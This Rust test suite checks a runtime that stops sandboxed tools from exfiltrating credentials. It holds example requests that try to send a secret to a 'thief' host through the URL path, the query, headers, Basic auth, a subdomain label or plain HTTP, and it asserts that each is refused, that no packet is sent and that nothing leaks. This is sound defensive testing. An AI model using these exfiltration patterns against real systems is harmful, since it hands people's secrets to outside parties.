//! Tools that try to carry a secret off.

use super::*;

fn post(url: String, headers: Value, body: &str) -> Value {
    json!({"method": "POST", "url": url, "headers": headers, "body": body})
}

/// The reason a request was refused for, as its span says.
fn refusals(outcome: &Outcome) -> Vec<String> {
    let refused = |span: &Span| attribute(span, "refused").map(|_| text(span, "refused"));
    outcome.requests.iter().filter_map(refused).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn what_the_tool_sees_is_worthless() {
    let upstream = Upstream::https().await;
    let courier = Courier::at_home(&upstream).await;
    let see = || courier.run("see", json!({"name": "KEY"}));
    let (one, other) = (output(Ok(see().await)), output(Ok(see().await)));
    let placeholder = one.as_str().expect("it is set");
    assert_eq!(placeholder.len(), SECRET.len());
    assert_ne!(one, other, "fresh for each run");
    // Another run's placeholder stands for nothing.
    let request = post(
        format!("https://{}/v1/sink", upstream.host()),
        json!([["x-key", placeholder]]),
        "",
    );
    courier.send(request).await.expect("an answer");
    assert_eq!(upstream.only().headers["x-key"], placeholder);
}

#[tokio::test(flavor = "multi_thread")]
async fn to_another_host_that_is_allowed_is_refused_and_recorded() {
    let home = Upstream::https().await;
    let thief = Upstream::https().await;
    let network = NetworkConfig {
        open: vec![
            home.host().parse().expect("a host"),
            thief.host().parse().expect("a host"),
        ],
        roots_pem: vec![home.root_pem.clone(), thief.root_pem.clone()],
        ..NetworkConfig::default()
    };
    let rule = format!("https://{}", thief.host());
    let courier = Courier::to(&home, &["https://HOST", &rule], network).await;
    let host = thief.host();
    let thefts = [
        (
            "path",
            post(format!("https://{host}/{{KEY}}"), json!([]), ""),
        ),
        (
            "query",
            post(format!("https://{host}/?k={{KEY}}"), json!([]), ""),
        ),
        (
            "header",
            post(format!("https://{host}/"), json!([["x-key", "{KEY}"]]), ""),
        ),
        (
            "basic",
            post(
                format!("https://{host}/"),
                json!([["authorization", "Basic {basic:KEY}"]]),
                "",
            ),
        ),
        (
            "header name",
            post(format!("https://{host}/"), json!([["{KEY}", "x"]]), ""),
        ),
        (
            "label",
            post("https://{KEY}.example.com/".to_owned(), json!([]), ""),
        ),
        (
            "plain",
            post(
                format!("http://{}/", home.host()),
                json!([["x-key", "{KEY}"]]),
                "",
            ),
        ),
    ];
    for (name, theft) in thefts {
        let outcome = courier.run("send", json!({"request": theft})).await;
        assert_eq!(
            result(&outcome),
            Err("HttpRequestDenied".to_owned()),
            "{name}"
        );
        assert_eq!(
            refusals(&outcome),
            ["credential KEY may not go there"],
            "{name}"
        );
        let told = format!("{:?}", outcome.requests);
        assert_eq!(tollgate_runtime::spelling_in(SECRET, told.as_bytes()), None);
    }
    assert_eq!(
        (thief.connections(), home.connections()),
        (0, 0),
        "no packet"
    );
    // A body is under way when the placeholder comes: the request is broken off before it.
    let body = format!("{}{{KEY}}", "x".repeat(1000));
    let theft = post(format!("https://{host}/sink"), json!([]), &body);
    let outcome = courier.run("send", json!({"request": theft})).await;
    assert!(outcome.result.is_err(), "{:?}", outcome.result);
    assert_eq!(refusals(&outcome), ["credential KEY may not go there"]);
    for seen in thief.seen() {
        assert!(seen.body.iter().all(|byte| *byte == b'x'), "{seen:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn from_a_host_that_hands_it_back_is_refused_where_it_cannot_be_searched() {
    let upstream = Upstream::https().await;
    let courier = Courier::at_home(&upstream).await;
    let url = format!("https://{}/v1/coded", upstream.host());
    let with_key = post(url.clone(), json!([["x-key", "{KEY}"]]), "");
    assert_eq!(
        courier.send(with_key).await,
        Err("HttpResponseContentCoding".to_owned())
    );
    // Also where this request carried none: the host may remember it from another one.
    let without = post(url, json!([]), "");
    let refused = Err("HttpResponseContentCoding".to_owned());
    assert_eq!(courier.send(without).await, refused);
    // In a header, too.
    let echo = post(
        format!("https://{}/v1/echo", upstream.host()),
        json!([["x-key", "{KEY}"]]),
        "",
    );
    let answer = courier.send(echo).await.expect("an answer");
    let headers = answer["headers"].as_array().expect("a list");
    let echoed = headers.iter().find(|it| it[0] == "x-echo").expect("echoed");
    assert_eq!(echoed[1], "*".repeat(SECRET.len()));
}

#[tokio::test(flavor = "multi_thread")]
async fn by_a_tool_that_declares_another_host_is_missing_with_that_reason() {
    let upstream = Upstream::https().await;
    let courier = Courier::at_home(&upstream).await;
    let credential = Credential::new(SECRET)
        .expect("valid")
        .hosts(["api.example.com"]);
    let run = Run::new("see", json!({"name": "KEY"}))
        .credentials(Credentials::new().with("KEY", credential));
    match courier.tool.run(run).await {
        Err(tollgate_runtime::Refused::CredentialsMissing(missing)) => {
            assert_eq!(missing[0].reason, tollgate_runtime::MissingReason::Hosts);
            assert_eq!(missing[0].hosts, [upstream.host()]);
        }
        other => panic!("{other:?}"),
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn two_buyers_never_get_each_other_s() {
    let upstream = Upstream::https().await;
    let courier = Courier::at_home(&upstream).await;
    let request = post(
        format!("https://{}/v1/sink", upstream.host()),
        json!([["x-key", "{KEY}"], ["x-buyer", "0"]]),
        "{KEY}",
    );
    let mut runs = Vec::new();
    for index in 0..200 {
        let buyer = format!("buyer-{}", index % 2);
        let secret = format!("the-key-of-{buyer}");
        let mut request = request.clone();
        request["headers"][1][1] = json!(buyer);
        let credentials = Credentials::new().with("KEY", Credential::new(secret).expect("valid"));
        let run = Run::new("send", json!({"request": request}))
            .owner(&buyer)
            .credentials(credentials);
        let tool = courier.tool.clone();
        runs.push(tokio::spawn(async move {
            output(tool.run(run).await)["status"].clone()
        }));
    }
    for run in runs {
        assert_eq!(run.await.expect("no panic"), 200);
    }
    let seen = upstream.seen();
    assert_eq!(seen.len(), 200);
    for request in seen {
        let buyer = request.headers["x-buyer"].to_str().expect("text");
        let secret = format!("the-key-of-{buyer}");
        assert_eq!(request.headers["x-key"], secret);
        assert_eq!(request.body, secret.as_bytes());
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn by_what_a_tool_says_carries_off_a_worthless_placeholder() {
    let upstream = Upstream::https().await;
    let courier = Courier::at_home(&upstream).await;
    let outcome = courier.run("tell", json!({"name": "KEY"})).await;
    let said = result(&outcome).expect_err("it says it in its error");
    assert_eq!(said.len(), SECRET.len());
    // The same on both streams; the file of that name was made, or its error would be another one.
    let lines: Vec<_> = outcome.logs.iter().map(|line| line.text.as_str()).collect();
    assert_eq!(lines, [said.as_str(); 2]);
    assert_eq!(outcome.usage.scratch_bytes, SECRET.len() as u64);
    let told = format!("{outcome:?}");
    assert_eq!(tollgate_runtime::spelling_in(SECRET, told.as_bytes()), None);
    let again = courier.run("tell", json!({"name": "KEY"})).await;
    assert_ne!(result(&again), Err(said), "fresh for each run");
}
